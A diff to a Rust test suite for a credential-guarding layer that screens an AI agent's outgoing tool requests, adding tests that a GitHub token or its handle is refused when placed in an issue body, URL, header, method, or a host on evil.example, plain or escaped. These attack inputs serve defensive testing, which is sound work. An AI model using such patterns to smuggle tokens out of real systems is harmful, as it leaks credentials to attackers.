@@ -645,14 +645,16 @@ mod http {
         let s = setup();
         let edge = Edge::new("researcher", s.manager.clone(), policy()).unwrap();
         let handle = edge.handle("GITHUB_TOKEN").unwrap();
-        let request = ToolRequest::new("POST", format!("https://api.github.com/x?t={handle}"))
-            .with_header("Authorization", "Bearer keyward-managed")
+        // The binding presents the key: the tool's own authorization header is replaced, a
+        // handle in it too.
+        let request = ToolRequest::new("POST", "https://api.github.com/x?t=1")
+            .with_header("Authorization", format!("Bearer {handle}"))
             .with_header("content-type", "application/json")
-            .with_body(format!(r#"{{"token": "{handle}"}}"#));
+            .with_body(r#"{"title": "x"}"#);
         let prepared = edge.prepare_request("github", request).unwrap();
         assert_eq!(
             prepared.url().expose_secret(),
-            format!("https://api.github.com/x?t={}", s.github)
+            "https://api.github.com/x?t=1"
         );
         assert_eq!(
             header(&prepared, "authorization"),
@@ -672,10 +674,7 @@ mod http {
                 .unwrap()
                 .is_sensitive()
         );
-        assert_eq!(
-            prepared.body().unwrap(),
-            format!(r#"{{"token": "{}"}}"#, s.github).as_bytes()
-        );
+        assert_eq!(prepared.body().unwrap(), br#"{"title": "x"}"#);
         assert_eq!(prepared.keys().collect::<Vec<_>>(), ["GITHUB_TOKEN"]);
         assert_eq!(prepared.destination(), "https://api.github.com");
         assert!(!format!("{prepared:?}").contains(&s.github[4..20]));
@@ -704,6 +703,87 @@ mod http {
             .unwrap();
         assert!(plain.headers().is_empty());
         assert_eq!(plain.keys().count(), 0);
+    }
+
+    /// A key its binding presents goes only where the binding puts it: anywhere else in a
+    /// request to its own host (an issue's body, the URL), the service would take it as
+    /// content, which a prompt injection could have it publish.
+    #[test]
+    fn a_presented_key_is_refused_anywhere_else_in_the_request() {
+        let s = setup();
+        let edge = Edge::new("researcher", s.manager.clone(), policy()).unwrap();
+        let handle = edge.handle("GITHUB_TOKEN").unwrap();
+        let issue = "https://api.github.com/repos/o/r/issues";
+        let json = "application/json";
+        let cases = [
+            ToolRequest::new("POST", issue)
+                .with_header("content-type", json)
+                .with_body(format!(r#"{{"title": "x", "body": "{handle}"}}"#)),
+            ToolRequest::new("POST", issue)
+                .with_header("content-type", json)
+                .with_body(format!(r#"{{"body": "{}"}}"#, s.github)),
+            ToolRequest::new("GET", format!("{issue}?q={handle}")),
+            ToolRequest::new("GET", format!("https://api.github.com/{handle}")),
+            ToolRequest::new("GET", issue).with_header("x-note", handle.to_string()),
+            ToolRequest::new("GET", issue).with_header("x-note", s.github.as_str()),
+        ];
+        let denied_before = edge.usage_log().report().total.denied;
+        for (i, request) in cases.into_iter().enumerate() {
+            let err = edge.prepare_request("github", request).unwrap_err();
+            assert_eq!(err.kind(), ErrorKind::PermissionDenied, "case {i}: {err}");
+            let message = err.to_string();
+            assert!(message.contains("`GITHUB_TOKEN`"), "{message}");
+            assert!(message.contains("Authorization: Bearer"), "{message}");
+            assert!(!message.contains(&s.github[4..]), "{message}");
+        }
+        assert_eq!(edge.usage_log().report().total.denied, denied_before + 6);
+    }
+
+    /// A key in the host name is refused, as written (the parser writes the host in lower case,
+    /// where the key is no longer found) or escaped, and the error does not quote the host; so
+    /// is a key in the method or a header's name, which no check of values looked at before.
+    #[test]
+    fn a_key_in_the_host_the_method_or_a_header_name_is_refused_unquoted() {
+        let s = setup();
+        let edge = Edge::new("researcher", s.manager.clone(), policy()).unwrap();
+        s.manager.get("GITHUB_TOKEN").unwrap();
+        let handle = edge.handle("GITHUB_TOKEN").unwrap();
+        let key = s.github.as_str();
+        let cases = [
+            ToolRequest::new("GET", format!("https://{key}.evil.example/")),
+            // the parser decodes the host's escapes
+            ToolRequest::new(
+                "GET",
+                format!(
+                    "https://%{:02X}{}.evil.example/",
+                    key.as_bytes()[0],
+                    &key[1..]
+                ),
+            ),
+            ToolRequest::new("GET", format!("https://user@{key}.api.github.com:443/")),
+            ToolRequest::new(key, "https://evil.example/"),
+            ToolRequest::new("GET", "https://evil.example/").with_header(key, "x"),
+            ToolRequest::new("GET", "https://evil.example/").with_header(handle.to_string(), "x"),
+        ];
+        for (i, request) in cases.into_iter().enumerate() {
+            for tool in ["web_fetch", "github"] {
+                let Err(err) = edge.prepare_request(tool, request.clone()) else {
+                    panic!("case {i}, {tool}: sent");
+                };
+                let message = err.to_string();
+                assert!(
+                    matches!(
+                        err.kind(),
+                        ErrorKind::InvalidInput | ErrorKind::PermissionDenied | ErrorKind::Leak
+                    ),
+                    "case {i}, {tool}: {message}"
+                );
+                assert!(
+                    !message.to_lowercase().contains(&key[4..].to_lowercase()),
+                    "case {i}, {tool}: {message}"
+                );
+            }
+        }
     }
 
     #[test]
